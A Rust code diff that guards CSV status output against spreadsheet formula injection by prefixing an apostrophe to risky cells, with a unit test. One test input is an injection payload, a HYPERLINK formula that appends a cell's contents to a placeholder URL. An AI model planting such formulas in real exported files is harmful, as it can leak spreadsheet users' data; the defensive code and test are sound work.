@@ -168,6 +168,25 @@ impl Summary {
 /// Writes the input rows, unchanged, with a status column — in the file's own encoding and
 /// delimiter, so it opens as the original did. A `Status` column already there (from an
 /// earlier run) is filled again instead of adding another.
+/// A cell we write that carries text from elsewhere (a reason, a target's message, a
+/// quoted name), made safe to open in a spreadsheet: one that starts with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return gets a leading `'`, as OWASP's "CSV Injection" page
+/// advises, so that Excel or Sheets shows it as text instead of running it as a formula. A
+/// spreadsheet hides that apostrophe: a person reads what the target said. A text that
+/// already starts with such a guard gets one more, so that taking one `'` off (as the
+/// add-on does) always gives the text back.
+pub fn neutralised(text: &str) -> std::borrow::Cow<'_, str> {
+    let formula_like =
+        |b: Option<&u8>| matches!(b, Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'));
+    let bytes = text.as_bytes();
+    let guarded = bytes.first() == Some(&b'\'') && formula_like(bytes.get(1));
+    if formula_like(bytes.first()) || guarded {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    }
+}
+
 pub fn write_status_csv(
     checked: &Checked,
     load: Option<&[LoadedRow]>,
@@ -198,7 +217,8 @@ pub fn write_status_csv(
             messages::status_header(lang).to_owned()
         } else if next_row < checked.rows.len() {
             next_row += 1;
-            fit_to(encoding, &status_text(checked, load, next_row - 1)).into_owned()
+            let status = status_text(checked, load, next_row - 1);
+            fit_to(encoding, &neutralised(&status)).into_owned()
         } else {
             String::new()
         };
@@ -447,4 +467,30 @@ fn write_notable(out: &mut impl Write, lang: Lang, notable: &[(u32, String)]) ->
         writeln!(out, "  … and {} more (see --report)", notable.len() - SHOWN)?;
     }
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_like_cells_get_a_guard_and_nothing_else_changes() {
+        for (text, safe) in [
+            (
+                "=HYPERLINK(\"http://x/?\"&A1,\"…\")",
+                "'=HYPERLINK(\"http://x/?\"&A1,\"…\")",
+            ),
+            ("+7 999 123-45-67", "'+7 999 123-45-67"),
+            ("-1", "'-1"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("'=x", "''=x"),
+            ("'quoted'", "'quoted'"),
+            ("Ошибка: =x", "Ошибка: =x"),
+            ("", ""),
+        ] {
+            assert_eq!(neutralised(text), safe, "{text:?}");
+        }
+    }
 }
